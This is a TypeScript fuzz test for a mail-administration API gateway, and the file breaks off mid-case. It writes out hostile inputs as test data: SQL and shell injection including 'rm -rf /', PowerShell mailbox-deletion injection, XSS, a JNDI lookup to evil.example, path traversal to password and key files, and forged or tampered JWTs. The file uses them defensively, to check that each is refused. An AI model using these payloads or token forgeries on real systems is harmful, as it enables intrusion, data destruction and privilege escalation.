/**
 * Hostile input through the real path (local host + Azurite + sandbox Entra ID): well over a
 * thousand malformed or hostile requests — bad JSON, wrong types, huge bodies, injection-looking
 * strings, unknown operations, forged and foreign tokens — to every endpoint. Every answer must
 * be a 4xx (problem+json from our handlers; the host's own 404/405 for routes that do not
 * exist), the connector's dropdown lists included; nothing may be enqueued or stored, and the
 * gateway's debug log must not contain a secret, token or private key.
 *
 * The corpus is generated from a fixed seed, so a failure names a case that can be replayed.
 */
import { generateKeyPairSync, createSign } from 'node:crypto';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buildPortal } from '../../portal/build';
import { SANDBOX_APPS } from '../../sandbox/directory/policy-file';
import { TableClient } from '@azure/data-tables';
import { createLogger } from '../../shared/observability/logger';
import {
  startTestGateway,
  AUTOMATION_ADMIN_APP,
  CONTOSO,
  FABRIKAM,
  FLOW_APP,
  type TestGateway,
} from '../support/gateway';
import { OPERATIONS } from '../../shared/operations/catalog';
import { GATEWAY_API } from '../../sandbox/directory/seed';
import { uniqueName } from '../support/sandbox';
import { tenantSchema } from '../../shared/config/tenant-registry';
import { BlobServiceClient } from '@azure/storage-blob';
import { userToken } from '../support/user-token';

interface FuzzCase {
  label: string;
  method: 'GET' | 'POST' | 'PUT' | 'DELETE' | 'PATCH';
  path: string;
  headers: Record<string, string>;
  body?: string;
  /** Expected status range; every case is at least 400-499. */
  expect?: number[];
  /** The answer is a page for a browser (the onboarding callback): text/html, everything sent escaped. */
  html?: boolean;
}

const logLines: string[] = [];
let gw: TestGateway;
let admin: string;
let flow: string;

beforeAll(async () => {
  const logger = createLogger({ level: 'debug', destination: { write: (line: string) => void logLines.push(line) } });
  // The portal is on (its static files are fuzzed too).
  const portalDir = await buildPortal(mkdtempSync(join(tmpdir(), 'exo-portal-')));
  // Two accepted tenants: a token of the second one is valid, and must still be worth nothing in the first (issue 16 finding 5).
  gw = await startTestGateway({
    logger,
    env: {
      PORTAL_CLIENT_ID: SANDBOX_APPS.portal,
      PORTAL_DIR: portalDir,
      GATEWAY_AUTH_TENANTS: `${CONTOSO},${FABRIKAM}`,
      // The policy as data (seeded from the file), so PUT /api/policy validates what it is sent.
      POLICY_BLOB: `${uniqueName('fuzzpolicy')}/policy.yaml`,
      ONBOARDING_TABLE: uniqueName('fuzzonboarding').replace(/[^a-z0-9]/g, ''),
    },
  });
  admin = await gw.token(AUTOMATION_ADMIN_APP);
  flow = await gw.token(FLOW_APP);
});
afterAll(() => gw.stop());

// ---------------------------------------------------------------- corpus

/** mulberry32: a small seeded PRNG so the corpus is the same on every run. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const HOSTILE_STRINGS = [
  "'; DROP TABLE commands; --",
  '" OR "1"="1',
  '$(rm -rf /)',
  '`Remove-Mailbox -Identity *`',
  '; Remove-Mailbox -Identity * -Confirm:$false',
  '| Set-Mailbox -Identity * -HiddenFromAddressListsEnabled $true',
  '<script>alert(document.cookie)</script>',
  '{{7*7}}',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00%0d%0aSet-Cookie:x=1',
  'adele.vance@contoso.com\r\nBcc: all@contoso.com',
  'adele.vance@contoso.com\u0000',
  'adele.vance@contoso.com; grady.archie@contoso.com',
  'adele vance@contoso.com',
  '@contoso.com',
  'adele.vance@',
  'adele.vance@contoso..com',
  'ａｄｅｌｅ@ｃｏｎｔｏｓｏ.com',
  '\u202eadele.vance@contoso.com',
  '*',
  '',
  ' ',
  '\t\n',
  'a'.repeat(300) + '@contoso.com',
  'x'.repeat(70_000),
  '__proto__',
  'constructor',
];

const WRONG_TYPES: unknown[] = [
  123,
  -1,
  1.5e308,
  true,
  false,
  null,
  [],
  ['adele.vance@contoso.com'],
  {},
  { $ne: null },
  { __proto__: { admin: true } },
];

const BAD_JSON = [
  '',
  ' ',
  '{',
  '}',
  '{"tenant":',
  "{'tenant':'contoso.onmicrosoft.com'}",
  '{"tenant":"contoso.onmicrosoft.com",}',
  '{tenant:"contoso.onmicrosoft.com"}',
  'NaN',
  'undefined',
  '[]',
  '[{"tenant":"contoso.onmicrosoft.com"}]',
  'null',
  '"a string"',
  '42',
  'true',
  '{"a":1}{"b":2}',
  '\u0000\u0001\u0002',
  '<?xml version="1.0"?><tenant>contoso</tenant>',
  'tenant=contoso.onmicrosoft.com&cmdlet=Get-Mailbox',
  '\ufeff{"tenant":"contoso.onmicrosoft.com"}x',
  '{"tenant":"\\ud800"',
  '['.repeat(5000) + ']'.repeat(5000),
  '{"a":'.repeat(3000) + '1' + '}'.repeat(3000),
];

function b64url(value: unknown): string {
  return Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
}

/** Tokens that must all be refused (401), with the signing parts as a real attacker would try. */
async function badTokens(): Promise<Array<[string, string | undefined]>> {
  const now = Math.floor(Date.now() / 1000);
  const goodClaims = {
    aud: GATEWAY_API.appId,
    iss: `${gw.cloud.endpoints.authorityHost}/${CONTOSO}/v2.0`,
    tid: CONTOSO,
    oid: 'x',
    sub: 'x',
    azp: AUTOMATION_ADMIN_APP.appId,
    idtyp: 'app',
    roles: ['Commands.Run', 'Operations.Run'],
    ver: '2.0' as const,
  };
  const sandbox = gw.cloud.context.tokens;
  const [, adminPayload, adminSignature] = admin.split('.');
  // Signed by the sandbox's real key but wrong in one claim each.
  const expired = (await sandbox.sign(goodClaims, -600)).token;
  const wrongAudience = (await sandbox.sign({ ...goodClaims, aud: 'https://outlook.office365.com' })).token;
  const wrongIssuer = (await sandbox.sign({ ...goodClaims, iss: 'https://evil.example/v2.0' })).token;
  const foreignTenant = (
    await sandbox.sign({
      ...goodClaims,
      tid: UNACCEPTED_TENANT,
      iss: `${gw.cloud.endpoints.authorityHost}/${UNACCEPTED_TENANT}/v2.0`,
    })
  ).token;
  // Signed by the sandbox's real key with lifetimes Entra ID never issues (issue 16 finding 7).
  const noExp = await sandbox.signClaims({ ...goodClaims, iat: now, nbf: now });
  const nbfFuture = await sandbox.signClaims({ ...goodClaims, iat: now, nbf: now + 3600, exp: now + 7200 });
  const iatFuture = await sandbox.signClaims({ ...goodClaims, iat: now + 3600, nbf: now, exp: now + 7200 });
  // Signed by a key the issuer never published.
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const header = b64url({ alg: 'RS256', typ: 'JWT', kid: sandbox.kid });
  const payload = b64url({ ...goodClaims, iat: now, nbf: now, exp: now + 3600 });
  const forged = `${header}.${payload}.${createSign('RSA-SHA256').update(`${header}.${payload}`).sign(privateKey).toString('base64url')}`;
  return [
    ['no Authorization header', undefined],
    ['empty bearer', 'Bearer '],
    ['basic credentials', `Basic ${Buffer.from('admin:admin').toString('base64')}`],
    ['not a JWT', 'Bearer not-a-token'],
    ['two segments', 'Bearer abc.def'],
    ['payload not JSON', `Bearer ${b64url({ alg: 'RS256' })}.${b64url('not json')}.sig`],
    ['payload null', `Bearer ${b64url({ alg: 'RS256' })}.${b64url('null')}.sig`],
    ['payload array', `Bearer ${b64url({ alg: 'RS256' })}.${b64url([1, 2])}.sig`],
    ['payload a number', `Bearer ${b64url({ alg: 'RS256' })}.${b64url('7')}.sig`],
    ['tid not a string', `Bearer ${b64url({ alg: 'RS256' })}.${b64url({ ...goodClaims, tid: { $gt: '' } })}.sig`],
    ['alg none', `Bearer ${b64url({ alg: 'none', typ: 'JWT' })}.${payload}.`],
    [
      'alg HS256 keyed with the public JWK',
      `Bearer ${b64url({ alg: 'HS256', typ: 'JWT' })}.${payload}.${Buffer.from('x').toString('base64url')}`,
    ],
    ['forged with an unpublished key', `Bearer ${forged}`],
    [
      'tampered payload on a real signature',
      `Bearer ${admin.split('.')[0]}.${b64url({ ...JSON.parse(Buffer.from(adminPayload!, 'base64url').toString()), roles: ['Commands.Run', 'Global.Admin'] })}.${adminSignature}`,
    ],
    ['real token, signature cut', `Bearer ${admin.split('.').slice(0, 2).join('.')}.`],
    ['expired', `Bearer ${expired}`],
    ['token for another audience', `Bearer ${wrongAudience}`],
    ['wrong issuer', `Bearer ${wrongIssuer}`],
    ['tenant not accepted', `Bearer ${foreignTenant}`],
    ['no exp claim (never expires)', `Bearer ${noExp}`],
    ['nbf an hour in the future', `Bearer ${nbfFuture}`],
    ['iat an hour in the future', `Bearer ${iatFuture}`],
    [
      'huge token (12 KB, under the 16 KB header limit)',
      `Bearer ${'a'.repeat(4000)}.${'b'.repeat(4000)}.${'c'.repeat(4000)}`,
    ],
    ['token twice', `Bearer ${admin} ${admin}`],
    ['lowercase scheme and junk', `bearer ${admin}junk!`],
  ];
}

/** The connector's dropdown lists (GET), with valid queries. */
const LIST_PATHS = [
  '/api/lists/tenants',
  '/api/lists/operations/grant-full-access',
  '/api/lists/operations?tenant=contoso.onmicrosoft.com',
  '/api/lists/mailboxes?tenant=contoso.onmicrosoft.com&field=user',
  '/api/lists/groups?tenant=contoso.onmicrosoft.com',
];

/** A tenant whose tokens the gateway does not accept (neither of GATEWAY_AUTH_TENANTS). */
const UNACCEPTED_TENANT = '0c0c0c0c-1111-4222-8333-444455556666';

/**
 * Valid tokens the second accepted tenant (Fabrikam) issued for Contoso's callers' app ids
 * (issue 16 finding 5): authenticated, but callers of Fabrikam — no rule lets them act on
 * Contoso, the admin rule pins Contoso as its callers' tenant, and nothing of Contoso's is theirs.
 */
async function otherTenantTokens(): Promise<Array<[string, string]>> {
  const claims = (appId: string, roles: string[]) => ({
    aud: GATEWAY_API.appId,
    iss: `${gw.cloud.endpoints.authorityHost}/${FABRIKAM}/v2.0`,
    tid: FABRIKAM,
    oid: 'b0b0b0b0-0000-4000-8000-000000000002',
    sub: 'b0b0b0b0-0000-4000-8000-000000000002',
    azp: appId,
    idtyp: 'app' as const,
    roles,
    ver: '2.0' as const,
  });
  return [
    [
      'tenant-B token with the admin app id',
      (await gw.cloud.context.tokens.sign(claims(AUTOMATION_ADMIN_APP.appId, ['Commands.Run', 'Operations.Run'])))
        .token,
    ],
    [
      'tenant-B token with the flow app id',
      (await gw.cloud.context.tokens.sign(claims(FLOW_APP.appId, ['Operations.Run']))).token,
    ],
  ];
}

function bodyFor(record: Record<string, unknown>): string {
  return JSON.stringify(record);
}

async function corpus(): Promise<FuzzCase[]> {
  const random = prng(20261125);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
  const json = { 'content-type': 'application/json' };
  const asAdmin = { ...json, authorization: `Bearer ${admin}` };
  const asFlow = { ...json, authorization: `Bearer ${flow}` };
  const cases: FuzzCase[] = [];
  const validCommand = {
    tenant: 'contoso.onmicrosoft.com',
    cmdlet: 'Set-Mailbox',
    parameters: { Identity: 'adele.vance@contoso.com', CustomAttribute1: 'x' },
  };
  const postTargets = [
    { path: '/api/commands', valid: validCommand as Record<string, unknown> },
    ...OPERATIONS.map((o) => ({
      path: `/api/operations/${o.name}`,
      valid: { tenant: 'contoso.onmicrosoft.com', ...o.example } as Record<string, unknown>,
    })),
  ];

  // 1. Bad tokens against every authenticated endpoint (with otherwise valid requests).
  for (const [label, authorization] of await badTokens()) {
    const auth: Record<string, string> = authorization === undefined ? {} : { authorization };
    for (const target of postTargets)
      cases.push({
        label: `token: ${label} → POST ${target.path}`,
        method: 'POST',
        path: target.path,
        headers: { ...json, ...auth },
        body: bodyFor(target.valid),
        expect: [401],
      });
    cases.push({
      label: `token: ${label} → GET status`,
      method: 'GET',
      path: '/api/commands/00000000-0000-4000-8000-000000000000',
      headers: auth,
      expect: [401],
    });
    cases.push({
      label: `token: ${label} → GET diagnostics`,
      method: 'GET',
      path: '/api/diagnostics/contoso.onmicrosoft.com',
      headers: auth,
      expect: [401],
    });
    cases.push({ label: `token: ${label} → GET me`, method: 'GET', path: '/api/me', headers: auth, expect: [401] });
    for (const list of LIST_PATHS)
      cases.push({ label: `token: ${label} → GET ${list}`, method: 'GET', path: list, headers: auth, expect: [401] });
    cases.push({
      label: `token: ${label} → GET event`,
      method: 'GET',
      path: '/api/events/evt-1',
      headers: auth,
      expect: [401],
    });
  }

  // 1b. Valid tokens of the second accepted tenant with Contoso's callers' app ids: 403/404, never 2xx.
  for (const [label, token] of await otherTenantTokens()) {
    const auth = { authorization: `Bearer ${token}` };
    for (const target of postTargets) {
      for (const tenant of ['contoso.onmicrosoft.com', CONTOSO, 'fabrikam.onmicrosoft.com']) {
        cases.push({
          label: `${label} → POST ${target.path} in ${tenant}`,
          method: 'POST',
          path: target.path,
          headers: { ...json, ...auth },
          body: bodyFor({ ...target.valid, tenant }),
          expect: [403],
        });
      }
    }
    cases.push({
      label: `${label} → GET status`,
      method: 'GET',
      path: '/api/commands/00000000-0000-4000-8000-000000000000',
      headers: auth,
      expect: [404],
    });
    cases.push({
      label: `${label} → GET diagnostics of tenant A`,
      method: 'GET',
      path: '/api/diagnostics/contoso.onmicrosoft.com',
      headers: auth,
      expect: [403],
    });
    cases.push({
      label: `${label} → GET diagnostics of its own tenant`,
      method: 'GET',
      path: '/api/diagnostics/fabrikam.onmicrosoft.com',
      headers: auth,
      expect: [403],
    });
    cases.push({ label: `${label} → GET me`, method: 'GET', path: '/api/me', headers: auth, expect: [403] });
    // The connector's dropdowns of either tenant: no rule matches a tenant-B caller (lists/tenants would be an empty 200).
    for (const list of ['/api/lists/operations', '/api/lists/operations/grant-full-access'])
      cases.push({ label: `${label} → GET ${list}`, method: 'GET', path: list, headers: auth, expect: [403] });
    for (const list of LIST_PATHS.filter((l) => l.includes('tenant=')))
      for (const tenant of ['contoso.onmicrosoft.com', 'fabrikam.onmicrosoft.com'])
        cases.push({
          label: `${label} → GET ${list} in ${tenant}`,
          method: 'GET',
          path: list.replace('contoso.onmicrosoft.com', tenant),
          headers: auth,
          expect: [403],
        });
    cases.push({
      label: `${label} → GET event`,
      method: 'GET',
      path: '/api/events/evt-1',
      headers: auth,
      expect: [404],
    });
  }

  // 2. Malformed bodies and media types against every POST endpoint.
  for (const target of postTargets) {
    for (const raw of BAD_JSON)
      cases.push({
        label: `bad JSON ${JSON.stringify(raw.slice(0, 30))} → ${target.path}`,
        method: 'POST',
        path: target.path,
        headers: asAdmin,
        body: raw,
        expect: [400, 422],
      });
    for (const type of [
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/xml',
      'application/octet-stream',
    ]) {
      cases.push({
        label: `content-type ${type} → ${target.path}`,
        method: 'POST',
        path: target.path,
        headers: { ...asAdmin, 'content-type': type },
        body: bodyFor(target.valid),
        expect: [415],
      });
    }
    cases.push({
      label: `1 MiB body → ${target.path}`,
      method: 'POST',
      path: target.path,
      headers: asAdmin,
      body: bodyFor({ ...target.valid, padding: 'x'.repeat(1024 * 1024) }),
      expect: [413],
    });
    cases.push({
      label: `unknown field → ${target.path}`,
      method: 'POST',
      path: target.path,
      headers: asAdmin,
      body: bodyFor({ ...target.valid, runAs: 'Global Administrator' }),
      expect: [422],
    });
    cases.push({
      label: `prototype pollution → ${target.path}`,
      method: 'POST',
      path: target.path,
      headers: asAdmin,
      body: `{"__proto__":{"roles":["Commands.Run"]},${bodyFor(target.valid).slice(1)}`,
      expect: [400],
    });
    // Header values as fetch can send them (ByteStrings): empty, too long, spaces, tabs, Latin-1.
    for (const value of ['', 'x'.repeat(201), 'with space', 'tab\there', 'clé']) {
      cases.push({
        label: `Idempotency-Key ${JSON.stringify(value.slice(0, 20))} → ${target.path}`,
        method: 'POST',
        path: target.path,
        headers: { ...asAdmin, 'idempotency-key': value },
        body: bodyFor(target.valid),
        expect: [422],
      });
    }
    for (const method of ['PUT', 'DELETE', 'PATCH'] as const)
      cases.push({
        label: `${method} ${target.path}`,
        method,
        path: target.path,
        headers: asAdmin,
        body: bodyFor(target.valid),
        expect: [404, 405],
      });
  }

  // 3. Wrong types and hostile strings in every field of every operation and of /api/commands.
  for (const target of postTargets) {
    const fields = Object.keys(target.valid).filter((k) => k !== 'tenant');
    for (const field of [...fields, 'tenant', 'idempotencyKey']) {
      for (const value of WRONG_TYPES) {
        // A value of the field's own kind may be valid (true for a boolean, {} for parameters): not hostile.
        const sameKind =
          typeof value === typeof target.valid[field] &&
          value !== null &&
          !Array.isArray(value) &&
          (typeof value !== 'object' || Object.keys(value).length === 0);
        if (sameKind && typeof value !== 'number') continue;
        cases.push({
          label: `${field}=${JSON.stringify(value)} → ${target.path}`,
          method: 'POST',
          path: target.path,
          headers: asAdmin,
          body: bodyFor({ ...target.valid, [field]: value }),
          expect: [422],
        });
      }
    }
    // Address-, name- and enum-like fields refuse every hostile string.
    const constrained =
      target.path === '/api/commands'
        ? ['tenant', 'cmdlet', 'idempotencyKey']
        : [
            ...fields.filter((f) => typeof target.valid[f] === 'string' && !/message|value/i.test(f)),
            'tenant',
            'idempotencyKey',
          ];
    for (const field of constrained) {
      for (const value of HOSTILE_STRINGS) {
        if (field === 'idempotencyKey' && /^[\x21-\x7e]{1,200}$/.test(value)) continue; // printable keys are valid keys
        cases.push({
          label: `${field}=${JSON.stringify(value.slice(0, 40))} → ${target.path}`,
          method: 'POST',
          path: target.path,
          headers: asAdmin,
          body: bodyFor({ ...target.valid, [field]: value }),
          expect: [422],
        });
      }
    }
  }
  // Raw-command structure: hostile parameter names, select entries, anchor mailbox, nesting.
  for (const value of HOSTILE_STRINGS) {
    cases.push({
      label: `parameter name ${JSON.stringify(value.slice(0, 30))}`,
      method: 'POST',
      path: '/api/commands',
      headers: asAdmin,
      body: bodyFor({ ...validCommand, parameters: { [value]: 'x' } }),
      expect: value === '__proto__' ? [400] : [422],
    });
    cases.push({
      label: `select ${JSON.stringify(value.slice(0, 30))}`,
      method: 'POST',
      path: '/api/commands',
      headers: asAdmin,
      body: bodyFor({ ...validCommand, select: [value] }),
      expect: [422],
    });
    cases.push({
      label: `anchorMailbox ${JSON.stringify(value.slice(0, 30))}`,
      method: 'POST',
      path: '/api/commands',
      headers: asAdmin,
      body: bodyFor({ ...validCommand, anchorMailbox: value }),
      expect: [422],
    });
  }
  // Endpoint families (issue 20): a hostile family, an unknown cmdlet, a cmdlet on the wrong family are 422s.
  for (const value of HOSTILE_STRINGS) {
    cases.push({
      label: `endpoint ${JSON.stringify(value.slice(0, 30))}`,
      method: 'POST',
      path: '/api/commands',
      headers: asAdmin,
      body: bodyFor({ ...validCommand, endpoint: value }),
      expect: [422],
    });
  }
  for (const [cmdlet, endpoint] of [
    ['Get-ComplianceSearch', 'exchange'],
    ['Get-Mailbox', 'compliance'],
    ['Get-NoSuchThing', undefined],
    ['Invoke-Expression', undefined],
  ] as const) {
    cases.push({
      label: `cmdlet ${cmdlet} on ${endpoint ?? 'no family'}`,
      method: 'POST',
      path: '/api/commands',
      headers: asAdmin,
      body: bodyFor({ ...validCommand, cmdlet, ...(endpoint ? { endpoint } : {}) }),
      expect: [422],
    });
  }
  let nested: unknown = 'x';
  for (let i = 0; i < 8; i++) nested = { deeper: nested };
  cases.push({
    label: 'parameters nested 8 deep',
    method: 'POST',
    path: '/api/commands',
    headers: asAdmin,
    body: bodyFor({ ...validCommand, parameters: { Identity: nested } }),
    expect: [422],
  });
  cases.push({
    label: 'parameter value over 8 KiB',
    method: 'POST',
    path: '/api/commands',
    headers: asAdmin,
    body: bodyFor({ ...validCommand, parameters: { Identity: 'x'.repeat(9000) } }),
    expect: [422],
  });
  // Depth and size bounds (issue 16 finding 8a): nesting that overflowed the stack after parsing
  // (a 500) and bodies of many small items, in parameters and in every operation's fields.
  const deepObjects = (n: number) => '{"a":'.repeat(n) + '1' + '}'.repeat(n);
  const deepArrays = (n: number) => '['.repeat(n) + ']'.repeat(n);
  const spliceInto = (valid: Record<string, unknown>, field: string, raw: string) =>
    bodyFor({ ...valid, [field]: '@@' }).replace('"@@"', raw);
  for (const [label, raw] of [
    ['objects 33 deep', deepObjects(33)],
    ['objects 3,000 deep', deepObjects(3000)],
    ['arrays 1,000 deep', deepArrays(1000)],
    ['arrays 20,000 deep', deepArrays(20_000)],
    ['20,000 items', `[${Array(20_000).fill('0').join(',')}]`],
    ['11,000 members (55 KB)', `{${Array(11_000).fill('"":0').join(',')}}`],
  ] as const) {
    cases.push({
      label: `parameters.Identity ${label}`,
      method: 'POST',
      path: '/api/commands',
      headers: asAdmin,
      body: spliceInto(validCommand, 'parameters', `{"Identity":${raw}}`),
      expect: [422],
    });
    for (const target of postTargets.slice(1)) {
      const field = Object.keys(target.valid).find((k) => k !== 'tenant')!;
      cases.push({
        label: `${field} ${label} → ${target.path}`,
        method: 'POST',
        path: target.path,
        headers: asAdmin,
        body: spliceInto(target.valid, field, raw),
        expect: [422],
      });
    }
  }
  // Case-variant duplicate parameters (issue 16 finding 1): one Exchange parameter named twice.
  for (const parameters of [
    { Identity: 'adele.vance@contoso.com', IDENTITY: 'alex.wilber@contoso.com' },
    { identity: 'adele.vance@contoso.com', Identity: 'alex.wilber@contoso.com' },
    { Identity: 'adele.vance@contoso.com', CustomAttribute1: 'a', customattribute1: 'b' },
    {
      Identity: 'adele.vance@contoso.com',
      GrantSendOnBehalfTo: { Add: ['adele.vance@contoso.com'], ADD: ['alex.wilber@contoso.com'] },
    },
  ]) {
    for (const [who, headers] of [
      ['admin', asAdmin],
      ['flow app', asFlow],
    ] as const) {
      cases.push({
        label: `${who}: case-variant duplicate parameters ${Object.keys(parameters).join('/')}`,
        method: 'POST',
        path: '/api/commands',
        headers,
        body: bodyFor({ ...validCommand, parameters }),
        expect: [422],
      });
    }
  }

  // 4. Hostile values that pass the schema but not the policy: the flow app, raw cmdlets and
  //    recipients outside its rule (random mixes from the seed).
  for (let i = 0; i < 120; i++) {
    const value = pick(HOSTILE_STRINGS.filter((s) => s.length < 1000));
    const cmdlet = pick(['Set-Mailbox', 'Remove-Mailbox', 'Add-MailboxPermission', 'New-InboxRule', 'Get-Mailbox']);
    cases.push({
      label: `flow app raw ${cmdlet} with ${JSON.stringify(value.slice(0, 30))}`,
      method: 'POST',
      path: '/api/commands',
      headers: asFlow,
      body: bodyFor({ tenant: 'contoso.onmicrosoft.com', cmdlet, parameters: { Identity: value } }),
      expect: [403],
    });
  }
  for (const op of OPERATIONS) {
    const addressField = Object.keys(op.example).find((k) => ['identity', 'group'].includes(k))!;
    for (const address of [
      "o'brien@fabrikam.com",
      'anna.kowalski@fabrikam.com',
      'admin@contoso.com.evil.example',
      'adele.vance@evil-contoso.com',
    ]) {
      cases.push({
        label: `flow app ${op.name} on ${address}`,
        method: 'POST',
        path: `/api/operations/${op.name}`,
        headers: asFlow,
        body: bodyFor({ tenant: 'contoso.onmicrosoft.com', ...op.example, [addressField]: address }),
        expect: [403],
      });
    }
  }
  for (let i = 0; i < 40; i++) {
    const tenant = pick([
      'evil.onmicrosoft.com',
      FABRIKAM,
      'fabrikam.onmicrosoft.com',
      '00000000-0000-0000-0000-000000000000',
      'CONTOSO.ONMICROSOFT.COM.',
      'contoso',
    ]);
    const op = pick(OPERATIONS);
    // fabrikam is configured but this rule set grants nothing there to the flow app; the rest are unknown tenants.
    cases.push({
      label: `flow app ${op.name} in tenant ${tenant}`,
      method: 'POST',
      path: `/api/operations/${op.name}`,
      headers: asFlow,
      body: bodyFor({ ...op.example, tenant }),
      expect: [403, 422],
    });
  }

  // 5. Unknown operations, odd paths and ids.
  // Route matching is case-insensitive (as in Azure Functions): a known name in capitals is that
  // operation, and this body lacks its fields.
  cases.push({
    label: 'known operation in capitals, no fields',
    method: 'POST',
    path: '/api/operations/SET-AUTO-REPLY',
    headers: asAdmin,
    body: bodyFor({ tenant: 'contoso.onmicrosoft.com' }),
    expect: [422],
  });
  for (const name of [
    'does-not-exist',
    'Set-Mailbox',
    'set-auto-reply%20',
    '..',
    '%2e%2e%2fcommands',
    'set-auto-reply%00',
    'x'.repeat(2000),
    '%3Cscript%3E',
    "set-auto-reply';--",
    '__proto__',
    'constructor',
    'toString',
  ]) {
    cases.push({
      label: `unknown operation ${name.slice(0, 30)}`,
      method: 'POST',
      path: `/api/operations/${name}`,
      headers: asAdmin,
      body: bodyFor({ tenant: 'contoso.onmicrosoft.com' }),
      expect: [404],
    });
  }
  for (let i = 0; i < 40; i++) {
    const id = pick([
      '..%2f..%2fhealth',
      'x'.repeat(500),
      "1' OR '1'='1",
      '00000000-0000-4000-8000-00000000000',
      '00000000-0000-4000-8000-0000000000000',
      '%00',
      'ZZZZZZZZ-0000-4000-8000-000000000000',
      `${'0'.repeat(8)}-0000-4000-8000-${String(i).padStart(12, '0')}`,
      'null',
      '__proto__',
    ]);
    cases.push({
      label: `status of ${id.slice(0, 40)}`,
      method: 'GET',
      path: `/api/commands/${id}`,
      headers: pick([{ authorization: `Bearer ${admin}` }, { authorization: `Bearer ${flow}` }]),
      expect: [404],
    });
  }
  // The result URL: hostile ids are unknown (404); a hostile window is a 400 before anything is read.
  for (let i = 0; i < 20; i++) {
    const id = pick([
      'x'.repeat(300),
      "1' OR '1'='1",
      '__proto__',
      '%00',
      `${'0'.repeat(8)}-0000-4000-8000-${String(i).padStart(12, '0')}`,
    ]);
    cases.push({
      label: `result of ${id.slice(0, 40)}`,
      method: 'GET',
      path: `/api/commands/${id}/result`,
      headers: { authorization: `Bearer ${admin}` },
      expect: [404],
    });
  }
  for (const query of [
    '$top=0',
    '$top=-1',
    '$top=99999999',
    '$top=1e3',
    '$skiptoken=abc',
    '$skiptoken=-5',
    '$skiptoken=1%00',
    '$top=%FF',
  ]) {
    cases.push({
      label: `result window ${query}`,
      method: 'GET',
      path: `/api/commands/00000000-0000-4000-8000-000000000001/result?${query}`,
      headers: { authorization: `Bearer ${admin}` },
      expect: [400],
    });
  }
  for (const tenant of HOSTILE_STRINGS.filter((s) => s && s.length < 400 && !/[\r\n\u0000\\]|^\s+$/.test(s))) {
    cases.push({
      label: `diagnostics for ${tenant.slice(0, 30)}`,
      method: 'GET',
      path: `/api/diagnostics/${encodeURIComponent(tenant)}`,
      headers: { authorization: `Bearer ${admin}` },
      expect: [404],
    });
  }
  // The dropdown lists: hostile tenant and field values are 422 naming the field, before any read.
  for (const value of HOSTILE_STRINGS.filter((v) => v.length < 2000)) {
    for (const list of ['/api/lists/operations', '/api/lists/mailboxes', '/api/lists/groups'])
      cases.push({
        label: `${list} tenant=${value.slice(0, 30)}`,
        method: 'GET',
        path: `${list}?tenant=${encodeURIComponent(value)}`,
        headers: pick([{ authorization: `Bearer ${admin}` }, { authorization: `Bearer ${flow}` }]),
        expect: [422],
      });
    cases.push({
      label: `mailboxes field=${value.slice(0, 30)}`,
      method: 'GET',
      path: `/api/lists/mailboxes?tenant=contoso.onmicrosoft.com&field=${encodeURIComponent(value)}`,
      headers: { authorization: `Bearer ${flow}` },
      expect: [422],
    });
  }
  // An operation's fields: only known operations, and only those granted to the caller somewhere.
  for (const name of [...HOSTILE_STRINGS.filter((v) => v.trim() && v.length < 400), 'Convert-To-Shared '])
    cases.push({
      label: `operation schema of ${name.slice(0, 30)}`,
      method: 'GET',
      path: `/api/lists/operations/${encodeURIComponent(name)}`,
      headers: { authorization: `Bearer ${flow}` },
      expect: [404],
    });
  cases.push({
    label: 'operation schema of an operation the flow is not granted',
    method: 'GET',
    path: '/api/lists/operations/convert-to-shared',
    headers: { authorization: `Bearer ${flow}` },
    expect: [403],
  });
  for (const list of ['/api/lists/mailboxes', '/api/lists/groups'])
    cases.push({
      label: `${list} search over 256 characters`,
      method: 'GET',
      path: `${list}?tenant=contoso.onmicrosoft.com&search=${'a'.repeat(300)}`,
      headers: { authorization: `Bearer ${flow}` },
      expect: [422],
    });
  // A caller with no grant in the tenant may not list it.
  for (const list of LIST_PATHS.filter((l) => l.includes('tenant=')))
    cases.push({
      label: `${list} of a tenant the flow has no grant in`,
      method: 'GET',
      path: list.replace('contoso.onmicrosoft.com', 'fabrikam.onmicrosoft.com'),
      headers: { authorization: `Bearer ${flow}` },
      expect: [403],
    });
  // A URL whose percent-encoding does not decode is the host's 400 (issue 16 finding 8b; it was a 500).
  for (const path of [
    '/api/commands/%E0%A4%A',
    '/api/commands/%',
    '/api/operations/%ZZ',
    '/api/events/graph%E0',
    '/api/portal/%C0%80/%',
    '/api/diagnostics/%E0%A4%A',
    '/api/%FF%FE',
  ]) {
    cases.push({
      label: `malformed percent-encoding ${path}`,
      method: 'GET',
      path,
      headers: { authorization: `Bearer ${admin}` },
      expect: [400],
    });
    cases.push({
      label: `malformed percent-encoding POST ${path}`,
      method: 'POST',
      path,
      headers: asAdmin,
      body: bodyFor(validCommand),
      expect: [400],
    });
  }
  // The portal's static files: only the fixed list, never a path out of its folder.
  for (const asset of [
    '..%2f..%2fpackage.json',
    '%2e%2e/%2e%2e/local.settings.json',
    '..%5c..%5cpackage.json',
    'src/../../../.sandbox/pki/ca-key.pem',
    'config.json%00.png',
    'x'.repeat(3000),
    '.env',
    'index.html/..%2f..%2f..%2fpackage.json',
  ]) {
    cases.push({
      label: `portal asset ${asset.slice(0, 40)}`,
      method: 'GET',
      path: `/api/portal/${asset}`,
      headers: {},
      expect: [404],
    });
  }
  // /api/me is for signed-in users: an app token has no mailbox of its own.
  const index = await fetch(`${gw.host.url}/api/portal/`);
  if (index.status !== 200)
    throw new Error(`the portal is not served (${index.status}); the asset cases would test nothing`);
  cases.push({
    label: 'me with an app token',
    method: 'GET',
    path: '/api/me',
    headers: { authorization: `Bearer ${flow}` },
    expect: [403],
  });
  cases.push({
    label: 'diagnostics as a caller without the diagnostics grant',
    method: 'GET',
    path: '/api/diagnostics/contoso.onmicrosoft.com',
